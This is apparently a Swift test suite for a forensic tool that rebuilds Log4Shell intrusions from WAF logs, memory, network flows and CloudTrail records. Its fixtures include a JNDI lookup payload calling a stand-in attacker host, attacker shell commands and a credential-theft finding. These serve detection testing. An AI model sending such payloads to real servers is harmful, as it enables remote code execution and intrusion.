import Evidence
import Testing

@testable import Timeline

@Suite("The story")
struct IncidentBuilderTests {
  typealias Samples = CaseSamples

  private func step(_ stage: Stage, _ incident: Incident) -> Step? { incident.steps.first { $0.stage == stage } }

  @Test("A socket of the Java process to the very host and port of the payload proves the lookup")
  func success() throws {
    let incident = Samples.story(
      [Samples.payload(10)], Samples.processes + [Samples.callback, ("waf", Samples.request(10, "/login"))])
    let proof = try #require(incident.findings.first { $0.rule == JoinedFinding.log4shellSucceeded })
    #expect(proof.severity == .critical)
    #expect(proof.evidence.map(\.artifact).contains(Samples.artifact("waf")))
    #expect(proof.evidence.map(\.artifact).contains(Samples.artifact("memory")))
    #expect(proof.pid == 351)
    #expect(incident.severity == .critical)
    #expect(incident.verdict.first?.key == .takenOverByLog4Shell)
    #expect(step(.callback, incident)?.status == .observed)
    #expect(incident.edges.contains { $0.relation == .calledBack && $0.key == "203.0.113.66:1389" })
  }

  @Test("Another port, another owner, a refused flow and a flow from before are no callback")
  func nearMisses() {
    let cases: [(String, Event)] = [
      ("memory", Samples.socket("10.0.2.15:43418->203.0.113.66:1390/tcp", pid: 351)),
      ("memory", Samples.socket("10.0.2.15:43418->203.0.113.66:1389/tcp", pid: 435)),
      ("flow", Samples.flow(20, "10.0.2.15:43418", "203.0.113.66:1389", action: "REJECT")),
      ("flow", Samples.flow(-300, "10.0.2.15:43418", "203.0.113.66:1389")),
      ("flow", Samples.flow(5000, "10.0.2.15:43418", "203.0.113.66:1389")),
    ]
    for event in cases {
      let incident = Samples.story([Samples.payload(10)], Samples.processes.dropLast(4) + [event])
      #expect(!incident.findings.contains { $0.rule == JoinedFinding.log4shellSucceeded }, "\(event.1.message)")
      #expect(incident.verdict.first?.key != .takenOverByLog4Shell)
    }
  }

  @Test("A shell that a request asked for, and nothing shows, is an attempt")
  func askedForShell() {
    var asked = Samples.shell(12)
    asked.rule = "reverse-shell.command-line"
    asked.entities = []
    asked.attributes.removeAll { $0.name == "pid" }
    asked.evidence = [EvidenceReference(artifact: Samples.artifact("waf"), locator: Samples.line(13))]
    let incident = Samples.story([asked], [("waf", Samples.request(12, "/x"))])
    #expect(step(.remoteControl, incident)?.status != .observed)
    #expect(incident.verdict.first?.key == .attackedWithoutProof)
    let opened = Samples.story(
      [asked],
      [("waf", Samples.request(12, "/x")), ("flow", Samples.flow(13, "10.0.2.15:51270", "203.0.113.66:4444"))])
    #expect(opened.verdict.first?.key == .takenOver)
  }

  @Test("A connection to a port of JNDI servers does not prove itself")
  func callbackPort() {
    var port = Samples.payload(10, severity: .medium)
    port.rule = "log4shell.callback-port"
    port.confidence = .low
    let incident = Samples.story([port], Samples.processes + [Samples.callback])
    #expect(!incident.findings.contains { $0.rule.hasPrefix("incident.") })
    #expect(incident.attackers.isEmpty)
  }

  @Test("Attempts without proof are told as attempts")
  func attempt() {
    let incident = Samples.story([Samples.payload(10, severity: .medium)], [("waf", Samples.request(10, "/"))])
    #expect(incident.verdict.first?.key == .attackedWithoutProof)
    #expect(incident.response.isEmpty)
  }

  @Test("An empty case is quiet, and says no more than that")
  func quiet() {
    let incident = Samples.story([], [])
    #expect(incident.verdict.map(\.key) == [.quiet, .nothingFurtherSought, .keepCollecting])
    #expect(incident.steps.isEmpty)
    #expect(incident.severity == nil)
  }

  @Test("The same payload in the WAF's log and in memory is one fact with two sources")
  func merging() throws {
    var inMemory = Samples.payload(10)
    inMemory.firstSeen = nil
    inMemory.evidence = [EvidenceReference(artifact: Samples.artifact("memory"), locator: Samples.physical(0x77))]
    let incident = Samples.story([Samples.payload(10), inMemory], [("waf", Samples.request(0, "/robots.txt"))])
    let facts = try #require(step(.exploitation, incident)).facts
    #expect(facts.count == 1)
    #expect(facts.first?.evidence.count == 2)
    #expect(facts.first?.sources.contains(.memory) == true)
  }

  @Test("From the shell down: children, commands and connections are the attack's; the administrator's are not")
  func attackProcesses() throws {
    let incident = Samples.story(
      [Samples.payload(10), Samples.shell(31)],
      Samples.processes + [
        Samples.callback, ("memory", Samples.command(40, "whoami", pid: 465)),
        ("memory", Samples.command(41, "uptime", pid: 435)),
        ("memory", Samples.socket("10.0.2.15:38868->203.0.113.66:9999/tcp", pid: 465)),
        ("memory", Samples.socket("10.0.2.15:53116->10.0.3.30:3306/tcp", pid: 351)),
      ])
    #expect(Set(incident.processes.filter(\.isAttack).map(\.pid)) == [460, 465])
    #expect(incident.findings.contains { $0.rule == JoinedFinding.serverSpawnedShell && $0.pid == 460 })
    let commands = try #require(step(.commands, incident))
    #expect(commands.facts.map(\.text) == ["pid 465 typed: whoami"])
    let channels = incident.findings.filter { $0.rule == JoinedFinding.connectionToAttacker }
    #expect(channels.compactMap(\.remoteEnd?.text) == ["203.0.113.66:9999"])
    #expect(incident.host.addresses == ["10.0.2.15"])
  }

  @Test(
    "A payload known only by the firewall's label, let through just before a call to a JNDI port, is more than a probe")
  func labels() {
    func label(_ second: Int64, action: String) -> Finding {
      var finding = Finding(
        rule: "log4shell.waf-label", title: "Labelled", severity: .medium, confidence: .medium, attack: ["T1190"],
        firstSeen: Samples.time(second), entities: [],
        evidence: [EvidenceReference(artifact: Samples.artifact("waf"), locator: Samples.line(1))], message: "")
      finding.attributes.add("action", action)
      return finding
    }
    var callback = Finding(
      rule: "log4shell.callback-port", title: "Callback", severity: .medium, confidence: .low, attack: ["T1190"],
      firstSeen: Samples.time(30), entities: [],
      evidence: [EvidenceReference(artifact: Samples.artifact("flow"), locator: Samples.line(2))], message: "")
    callback.attributes.add("remote_host", Samples.attacker)
    callback.attributes.add("remote_port", Int64(1389))
    func severities(_ label: Finding) -> [Severity] {
      Samples.story([label, callback], []).findings.filter { $0.rule == JoinedFinding.log4shellSucceeded }.map(
        \.severity)
    }
    #expect(severities(label(10, action: "COUNT")) == [.high])
    #expect(severities(label(10, action: "BLOCK")) == [])
    #expect(severities(label(-300, action: "ALLOW")) == [])
  }

  @Test("An answer to a scanner is no connection to it, whatever port it came from")
  func answers() {
    func ends(_ flows: [(String, String)]) -> [String] {
      Samples.story(
        [Samples.payload(10)],
        flows.enumerated().map { ("flow", Samples.flow(5000 + Int64($0.offset), $0.element.0, $0.element.1)) }
      ).findings.filter { $0.rule == JoinedFinding.connectionToAttacker }.compactMap(\.remoteEnd?.text)
    }
    #expect(ends([("10.0.2.15:8080", "203.0.113.66:2048")]) == [])
    #expect(ends([("10.0.2.15:7001", "203.0.113.66:2048"), ("10.0.2.15:7001", "203.0.113.66:2049")]) == [])
    #expect(ends([("10.0.2.15:40001", "203.0.113.66:9999")]) == ["203.0.113.66:9999"])
  }

  @Test("A flow to the same host just after the callback is the payload's download, and said to be inferred")
  func delivery() throws {
    let incident = Samples.story(
      [Samples.payload(10)],
      Samples.processes + [
        Samples.callback, ("flow", Samples.flow(12, "10.0.2.15:43418", "203.0.113.66:1389")),
        ("flow", Samples.flow(14, "10.0.2.15:56656", "203.0.113.66:8888")),
      ])
    let delivery = try #require(step(.payloadDelivery, incident))
    #expect(delivery.status == .inferred)
    #expect(delivery.basis?.key == .becauseFlowAfterCallback)
    #expect(step(.commandAndControl, incident) == nil)
  }

  @Test("Requests of the same address before the payload are reconnaissance; others' are not")
  func reconnaissance() throws {
    let incident = Samples.story(
      [Samples.payload(10)],
      [
        ("waf", Samples.request(1, "/.env")), ("waf", Samples.request(2, "/", client: "198.51.100.7")),
        ("waf", Samples.request(20, "/after")),
      ])
    #expect(try #require(step(.reconnaissance, incident)).facts.count == 1)
  }

  @Test("What no source could have shown is told as missing, with the source")
  func missing() throws {
    let incident = Samples.story([Samples.shell(31)], Samples.processes)
    #expect(step(.exploitation, incident)?.status == .missing)
    #expect(step(.exploitation, incident)?.basis?.key == .missingWeb)
    #expect(step(.cloudAccess, incident)?.basis?.key == .missingCloudTrail)
    #expect(step(.remoteControl, incident)?.status == .observed)
  }

  @Test("Credentials read on the host and used by the attack's address are joined by the key")
  func credentials() throws {
    let read = Finding(
      rule: "behaviour.metadata-credentials", title: "Metadata read", severity: .high, attack: ["T1552.005"],
      firstSeen: Samples.time(50), entities: [Entity(.process, "465")],
      evidence: [EvidenceReference(artifact: Samples.artifact("memory"), locator: Samples.physical(0x5000))],
      message: "The role's credentials were asked for.")
    func call(_ source: String, _ second: Int64) -> Event {
      Event(
        time: Samples.time(second), .recorded, dataType: "aws:cloudtrail:entry", message: "ListBuckets from \(source)",
        entities: [Entity(.address, source), Entity(.accessKey, "ASIAEXAMPLE"), Entity(.role, "web-role")],
        attributes: [
          Attribute("event_name", "ListBuckets"), Attribute("source_ip", source),
          Attribute("access_key", "ASIAEXAMPLE"),
          Attribute("role", "web-role"),
        ], locator: Samples.line(Int(second)))
    }
    let findings = [Samples.payload(10), Samples.shell(31), read]
    let incident = Samples.story(findings, [("trail", call(Samples.attacker, 60)), ("trail", call("192.0.2.10", 61))])
    let joined = try #require(incident.findings.first { $0.rule == JoinedFinding.credentialsUsedElsewhere })
    #expect(joined.message.contains("ASIAEXAMPLE") && joined.message.contains("1 calls"))
    #expect(incident.host.role == "web-role")
    let elsewhere = Samples.story(findings, [("trail", call("192.0.2.10", 61))])
    #expect(!elsewhere.findings.contains { $0.rule == JoinedFinding.credentialsUsedElsewhere })
  }

  /// A root that was collected as a folder has paths without a slash in front.
  @Test(
    "A file that findings name is told with its digest; hidden files of the time too; old ones are not",
    arguments: ["disk.tar.gz!", nil])
  func files(_ archive: String?) {
    let naming = Finding(
      rule: "behaviour.download", title: "Download", severity: .high, attack: ["T1105"], firstSeen: Samples.time(60),
      entities: [Entity(.process, "465"), Entity(.file, "/tmp/.x")],
      evidence: [EvidenceReference(artifact: Samples.artifact("memory"), locator: Samples.physical(0x6000))],
      message: "wget wrote /tmp/.x")
    func file(_ path: String, _ second: Int64) -> ArtifactRecord {
      ArtifactRecord(
        digest: Samples.artifact(path), paths: [archive.map { $0 + path } ?? String(path.dropFirst())], size: 9,
        times: [FileTime(.modification, Samples.time(second))])
    }
    let incident = Samples.story(
      [Samples.shell(31), naming], [],
      artifacts: [file("/tmp/.x", 60), file("/tmp/.lock", 50), file("/tmp/.old", -9000), file("/tmp/plain", 50)])
    #expect(incident.findings.filter { $0.rule == JoinedFinding.droppedFile }.map { $0.text("path") } == ["/tmp/.x"])
    #expect(
      incident.findings.filter { $0.rule == JoinedFinding.fileOfTheTime }.map { $0.text("path") } == ["/tmp/.lock"])
  }

  @Test("The order in which findings and events come changes nothing")
  func order() {
    let findings = [Samples.payload(10), Samples.payload(12, line: 2), Samples.shell(31)]
    let events = Samples.processes + [Samples.callback, ("memory", Samples.command(40, "id", pid: 465))]
    let one = Samples.story(findings, events)
    let other = Samples.story(findings.reversed(), events.reversed())
    #expect(one.steps == other.steps)
    #expect(one.findings == other.findings)
    #expect(one.edges == other.edges)
    #expect(one.entities == other.entities)
    #expect(one.processes.map(\.pid) == other.processes.map(\.pid))
  }

  @Test("Processes that are each other's parents end every walk")
  func cycles() {
    let incident = Samples.story(
      [Samples.payload(10), Samples.shell(31, pid: 7)],
      [
        ("memory", Samples.process(7, parent: 8, "bash", "bash", start: 30)),
        ("memory", Samples.process(8, parent: 7, "bash", "bash", start: 30)),
        ("memory", Samples.process(9, parent: 9, "java", "java", start: 30)),
      ])
    #expect(Set(incident.processes.filter(\.isAttack).map(\.pid)) == [7, 8])
  }

  @Test("Two findings of one id are one, with the worse severity and both payloads")
  func sameID() throws {
    var second = Samples.payload(11, severity: .critical)
    second.attributes = [Attribute("decoded", "${jndi:rmi://203.0.113.66/b}")]
    second.message = "A header carries another."
    let incident = Samples.story([Samples.payload(10), second], [])
    let found = incident.findings.filter { $0.rule == "log4shell.jndi-lookup" }
    #expect(found.count == 1)
    #expect(found.first?.severity == .critical)
    #expect(found.first?.message.contains("another") == true && found.first?.message.contains("query") == true)
    #expect(found.first?["other_payloads"]?.text.contains("1389") == true)
  }
}
